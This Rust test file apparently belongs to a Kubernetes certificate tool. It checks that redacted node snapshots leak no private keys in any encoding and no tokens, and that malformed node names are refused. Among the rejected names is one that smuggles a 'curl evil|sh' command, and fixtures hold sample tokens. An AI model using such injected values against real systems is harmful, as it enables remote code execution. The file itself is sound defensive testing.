//! Snapshots of nodes on a real disk, searched byte by byte for what must not be in them.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use kubecerts_core::archive::Redaction;
use kubecerts_core::observation::Observations;
use kubecerts_host::archive;
use kubecerts_host::{Node, NodeError, NodeOptions};
use kubecerts_testkit::needles::{KINDS, Needles, shifts, url_safe, wrapped};
use kubecerts_testkit::{FIXTURES, Fixture, MemoryTree, TreeBuilder, at, path};
use tempfile::TempDir;

#[test]
fn the_file_with_a_redacted_snapshot_of_any_fixture_holds_no_private_key_in_any_encoding() {
    for name in FIXTURES {
        let fixture = Fixture::named(name);
        for tree in [Some(fixture.tree()), fixture.renewed()].into_iter().flatten() {
            let needles = Needles::of(&tree);
            assert!(needles.keys() >= 10, "{name}: {} keys", needles.keys());
            assert_eq!(needles.found_in(&taken(&tree, Redaction::default())), Vec::<String>::new(), "{name}");
            // Most keys of these trees are PEM in a file or base64 of it, and that is what the search finds. Nothing on a node
            // names the directory of which only kubeadm was told.
            let found = needles.found_in(&taken(&tree, Redaction::KeepSecrets));
            let kinds_there: &[&str] =
                if name.contains("custom-cert-dir") { &["base64"] } else { &["PEM", "base64"] };
            for kind in kinds_there {
                assert!(kinds(&found).any(|found| found == *kind), "{name}: no {kind}");
            }
        }
    }
}

#[test]
fn the_file_with_a_redacted_snapshot_of_a_node_with_surroundings_holds_no_secret() {
    for rsa in [false, true] {
        let tree =
            if rsa { Fixture::named("kubeadm-v136-rsa2048").tree() } else { TreeBuilder::kubeadm().build() };
        let tree = surrounded(tree);
        let needles = Needles::of(&tree);
        // The search finds every kind of thing that it looks for, and both tokens, where they are.
        let whole = taken(&tree, Redaction::KeepSecrets);
        let found = needles.found_in(&whole);
        for kind in KINDS {
            assert!(kinds(&found).any(|found| found == kind), "rsa {rsa}: no {kind}");
        }
        let redacted = taken(&tree, Redaction::Redact);
        assert_eq!(needles.found_in(&redacted), Vec::<String>::new(), "rsa {rsa}");
        for token in TOKENS {
            assert!(holds(&whole, token), "{token}");
            assert!(!holds(&redacted, token), "{token}");
        }
        // What the diagnosis lives on has stayed.
        for kept in ["kubecerts.timer", "/root/.kube/config", "pki.bak/ca.crt", "REDACTED PRIVATE KEY"] {
            assert!(holds(&redacted, kept), "{kept}");
        }
    }
}

/// Puts around `tree` what lies around on nodes, with keys in every form.
fn surrounded(mut tree: MemoryTree) -> MemoryTree {
    let key = tree.read_file("/etc/kubernetes/pki/apiserver.key").to_vec();
    let certificate = tree.read_file("/etc/kubernetes/pki/apiserver.crt").to_vec();
    let pem = [certificate.clone(), key].concat();
    tree.write(&path("/var/lib/kubelet/pki/kubelet-client-2026-01-01-00-00-00.pem"), pem, 0o600);
    tree.link("/var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet-client-2026-01-01-00-00-00.pem");
    for copy in ["/root/.kube/config", "/home/me/.kube/config", "/etc/kubernetes/admin.conf.bak"] {
        tree.copy("/etc/kubernetes/admin.conf", copy);
    }
    for name in ["ca.crt", "ca.key", "sa.key", "apiserver.crt", "apiserver.key"] {
        tree.copy(&format!("/etc/kubernetes/pki/{name}"), &format!("/etc/kubernetes/pki.bak/{name}"));
    }
    let server = "https://192.168.10.11:6443";
    let bootstrap = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: a\nclusters:\n- name: a\n  cluster: {{server: '{server}'}}\n\
         contexts:\n- name: a\n  context: {{cluster: a, user: a}}\nusers:\n- name: a\n  user:\n    token: {}\n",
        TOKENS[0]
    );
    tree.write(&path("/etc/kubernetes/bootstrap-kubelet.conf"), bootstrap, 0o600);
    let unit = |name: &str| path(&format!("/etc/systemd/system/kubecerts.{name}"));
    tree.write(&unit("timer"), "[Timer]\nOnCalendar=weekly\n", 0o644);
    let service = format!(
        "[Service]\nEnvironment=VAULT_TOKEN={}\nExecStart=/usr/local/bin/kubecerts renew --restart --yes\n",
        TOKENS[1]
    );
    tree.write(&unit("service"), service, 0o644);
    // A directory in which somebody has kept the key of the authority in every way that there is.
    let secret = tree.private_key("/etc/kubernetes/pki/ca.key");
    let own = kubecerts_core::x509::decode_blocks(secret.secret_pem().secret_bytes());
    let own = own.into_iter().next().unwrap().unwrap().secret_bytes().to_vec();
    for (form, der) in [("own", own), ("pkcs8", secret.secret_pkcs8_der().secret_bytes().to_vec())] {
        let hex: String = der.iter().map(|byte| format!("{byte:02x}")).collect();
        let [one, two, three] = shifts(&der);
        let url = url_safe(&one);
        let pem = wrapped("PRIVATE KEY", &der).into_bytes();
        let forms =
            [der.clone(), hex.to_uppercase().into_bytes(), hex.into_bytes(), one, two, three, url, pem];
        for (index, bytes) in forms.into_iter().enumerate() {
            let content = [certificate.as_slice(), b"\n", &bytes, b"\n"].concat();
            tree.write(&path(&format!("/etc/kubernetes/backup/{form}-{index}.pem")), content, 0o600);
        }
    }
    tree
}

/// Returns every byte of the file that a snapshot of `tree` on a disk is written to.
fn taken(tree: &MemoryTree, redaction: Redaction) -> Vec<u8> {
    let scratch = TempDir::new().unwrap();
    let root = scratch.path().join("root");
    for (file, content, _) in tree.files() {
        let host = below(&root, file.as_str());
        fs::create_dir_all(host.parent().unwrap()).unwrap();
        fs::write(host, content).unwrap();
    }
    for (link, target) in tree.links() {
        symlink(below(&root, target.as_str()), below(&root, link.as_str())).unwrap();
    }
    let mut options = NodeOptions::default();
    options.root = Some(root);
    let node = Node::open(options).unwrap();
    let archive =
        archive::take(&node, redaction, at("2026-06-01T00:00:00Z"), |_| Observations::none()).unwrap();
    let file = scratch.path().join("node.tar");
    archive::write_new(&archive, &file).unwrap();
    // What was written is a snapshot that can be read.
    assert_eq!(archive::read(&file).unwrap().redaction, redaction);
    fs::read(&file).unwrap()
}

fn below(root: &Path, file: &str) -> std::path::PathBuf {
    root.join(file.trim_start_matches('/'))
}

fn kinds(found: &[String]) -> impl Iterator<Item = &str> {
    found.iter().filter_map(|found| Some(found.split_once(": ")?.0))
}

fn holds(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|window| window == text.as_bytes())
}

/// One for joining, and one that a unit has.
const TOKENS: [&str; 2] = ["abcdef.0123456789abcdef", "hvs.CAESIJlU9JMYEhOPYv4igdhm9PnZDrabYTobQ4Ymnlq1qY-d"];

#[test]
fn a_name_that_nobody_could_read_again_is_refused_before_anything_is_looked_at() {
    let scratch = TempDir::new().unwrap();
    for (file, content, _) in Fixture::named("kubeadm-v136-ecdsa-p256").tree().files() {
        let host = below(scratch.path(), file.as_str());
        fs::create_dir_all(host.parent().unwrap()).unwrap();
        fs::write(host, content).unwrap();
    }
    let taken_as = |name: &str| {
        let mut options = NodeOptions::default();
        options.root = Some(scratch.path().to_owned());
        options.arguments.node_name = Some(name.to_owned());
        let node = Node::open(options).unwrap();
        let mut is_observed = false;
        let taken = archive::take(&node, Redaction::Redact, at("2026-06-01T00:00:00Z"), |_| {
            is_observed = true;
            Observations::none()
        });
        assert_eq!(is_observed, taken.is_ok(), "{name:?}");
        taken
    };
    for name in ["cp 1", "x; curl evil|sh #", "a\nhint: do", "kö", &"a".repeat(254)] {
        let refused = taken_as(name).unwrap_err();
        assert!(matches!(&refused, NodeError::Name { name: refused } if refused == name), "{refused}");
        assert!(!refused.to_string().contains('\n'), "{refused}");
    }
    for name in ["cp-1", "Master_2.example.com"] {
        let file = scratch.path().join(format!("{name}.tar"));
        archive::write_new(&taken_as(name).unwrap(), &file).unwrap();
        assert_eq!(archive::read(&file).unwrap().name, name);
    }
}
